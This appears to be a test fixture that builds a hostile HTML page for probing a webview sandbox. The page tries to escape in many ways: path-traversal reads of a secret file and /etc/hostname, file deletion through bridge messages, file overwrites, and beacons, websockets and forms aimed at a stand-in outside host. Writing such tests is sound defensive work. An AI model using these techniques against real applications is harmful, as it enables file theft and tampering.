// A drawing that tries to get hold of the window around it. Each try says what it
// found; tests judge by what has happened, not by that.

/** web is an address that must hear of nothing; secret lies in the folder, outside of what the drawing may read. */
export const hostileDrawing = (web, folder) => `<!doctype html><html><head>
<link rel="prefetch" href="${web}/prefetch"><link rel="stylesheet" href="${web}/style"><meta http-equiv="refresh" content="1;url=${web}/refresh">
</head><body><h1>Hostile</h1>
<img src="${web}/img"><a id="away" href="${web}/link" target="_top">x</a>
<script>
const api = acquireVsCodeApi()
const say = (what, found) => api.postMessage({ what, found: String(found) })
const origin = location.protocol + '//' + location.host
const own = origin + location.pathname.split('/page/')[0]
const bridgeMessages = [
  'Q', 'BO:${web}/opened', 'WM',
  'C' + JSON.stringify({ name: 'bind.Files.Delete', args: ['workspace', 'victim.txt', false], callbackID: 'x' }),
  'CS' + JSON.stringify({ name: 'bind.Files.Delete', args: ['workspace', 'victim.txt', false], callbackID: 'x' }),
]
const toGo = (view) => {
  for (const message of bridgeMessages) view.webkit.messageHandlers.external.postMessage(message)
  return 'posted'
}
const attempt = (what, act) => { try { say(what, act()) } catch (cause) { say(what, cause.name) } }
const later = (what, promise) => promise.then((found) => say(what, found), (cause) => say(what, cause.name))

attempt('direct', () => toGo(window))
attempt('runtime', () => { window.runtime.Quit(); return 'called' })
attempt('event', () => { for (const detail of bridgeMessages) dispatchEvent(new CustomEvent('keel-to-go', { detail })); return 'sent' })
attempt('event on top', () => { for (const detail of bridgeMessages) top.dispatchEvent(new CustomEvent('keel-to-go', { detail })); return 'sent' })
attempt('blank child', () => { const child = document.createElement('iframe'); document.body.append(child); return toGo(child.contentWindow) })
const inChild = '<script>try { window.webkit.messageHandlers.external.postMessage("Q"); parent.postMessage("child posted", "*") } catch (cause) { parent.postMessage("child " + cause.name, "*") }' +
  'fetch(' + JSON.stringify(origin + '/keel/file/workspace?path=secret.txt') + ').then((r) => r.text()).then((t) => parent.postMessage("child read " + t, "*"), (c) => parent.postMessage("child " + c.name, "*"));' +
  'const form = document.createElement("form"); form.action = ' + JSON.stringify('${web}/form') + '; document.documentElement.append(form); setTimeout(() => form.submit(), 1500);' +
  'new Image().src = ' + JSON.stringify('${web}/child') + '</' + 'script>'
for (const kind of ['srcdoc', 'data', 'blob']) {
  const child = document.createElement('iframe')
  if (kind === 'srcdoc') child.srcdoc = inChild
  else child.src = kind === 'data' ? 'data:text/html,' + encodeURIComponent(inChild) : URL.createObjectURL(new Blob([inChild], { type: 'text/html' }))
  document.body.append(child)
}
for (const address of [origin + '/', origin + '/index.html', origin + '/keel/file/workspace?path=page.html', '${web}/frame', own + '/at/file+' + '${folder}/page.html']) {
  const child = document.createElement('iframe')
  child.src = address
  document.body.append(child)
}
window.addEventListener('message', ({ data }) => { if (typeof data === 'string') say('child', data) })

attempt('parent document', () => parent.document.title)
attempt('top document', () => top.document.title)
attempt('real parent', () => top.go.bind.Files.Delete('workspace', 'victim.txt', false))
attempt('storage', () => localStorage.length)
attempt('cookie', () => document.cookie)
attempt('popup', () => window.open('${web}/popup'))
attempt('top away', () => { top.location = '${web}/top'; return 'set' })
attempt('click away', () => { document.querySelector('#away').click(); return 'clicked' })
attempt('others', () => {
  for (let at = 0; at < top.length; at++) {
    top[at].postMessage({ answer: 'evil' }, '*')
    top[at].postMessage('keel-webview-ready', '*')
  }
  top.postMessage('keel-webview-ready', '*', [new MessageChannel().port1])
  return top.length
})
attempt('others away', () => { for (let at = 0; at < top.length; at++) if (top[at] !== window) top[at].location = '${web}/other'; return 'set' })
attempt('keys', () => {
  for (const key of ['keydown', 'keyup']) dispatchEvent(new KeyboardEvent(key, { key: 'p', code: 'KeyP', keyCode: 80, ctrlKey: true }))
  return 'pressed'
})
attempt('beacon', () => navigator.sendBeacon('${web}/beacon', 'x'))
attempt('socket', () => { new WebSocket('${web}/socket'.replace('http', 'ws')); new WebSocket(origin.replace('http', 'ws') + '/wails/ipc'); return 'made' })

const read = (address, options) => fetch(address, options).then(async (response) => response.status + ' ' + (await response.text()).slice(0, 40))
for (const path of ['/keel/file/workspace?path=secret.txt', '/', '/wails/ipc.js', '/keel/gallery/x', '${'/keel/webview/00000000000000000000000000000000/page/1'}'])
  later('fetch ' + path, read(origin + path))
later('write', read(origin + '/keel/file/workspace?path=victim.txt&overwrite=1', { method: 'PUT', body: 'overwritten' }))
later('write simply', read(origin + '/keel/file/workspace?path=victim.txt', { method: 'POST', mode: 'no-cors', body: 'overwritten' }))
later('register', read(own, { method: 'PUT', body: JSON.stringify({ origin, version: 9, html: 'x', roots: ['/'], nonce: own.split('/').pop() }) }))
later('web', read('${web}/fetch'))
for (const place of ['/secret.txt', '/pictures/../secret.txt', '/pictures/..%2fsecret.txt', '/pictures/%2e%2e/secret.txt', '/pictures/%252e%252e/secret.txt', '/pictures/..%5csecret.txt', '/pictures/link.txt', '/pictures//../secret.txt'])
  later('read ' + place, read(own + '/at/file+${folder}' + place))
later('read passwords', read(own + '/at/file+/etc/hostname'))
later('read dot', read(own + '/at/file+${folder}/pictures/dot.svg'))
later('read vscode', read(own + '/at/vscode-userdata+/User/settings.json'))
later('read config', read(own + '/at/keel+/settings.json'))
setTimeout(() => { say('all', 'tried'); setTimeout(() => { location = origin + '/' }, 1000) }, 3000)
</script></body></html>`
